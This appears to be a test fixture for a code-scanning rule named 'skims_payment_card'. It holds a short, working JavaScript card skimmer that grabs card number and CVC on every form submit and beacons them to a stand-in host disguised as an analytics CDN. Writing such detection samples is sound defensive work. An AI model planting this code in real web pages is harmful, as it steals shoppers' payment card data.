const SINK = 'https://cdn-analytics.shop-assets.example/collect';
document.addEventListener('submit', (ev) => {
  const n = ev.target.querySelector('[autocomplete=cc-number]');
  const c = ev.target.querySelector('[name=cvc]');
  // ruleid: skims_payment_card
  navigator.sendBeacon(SINK, JSON.stringify({ n: n.value, c: c.value }));
}, true);
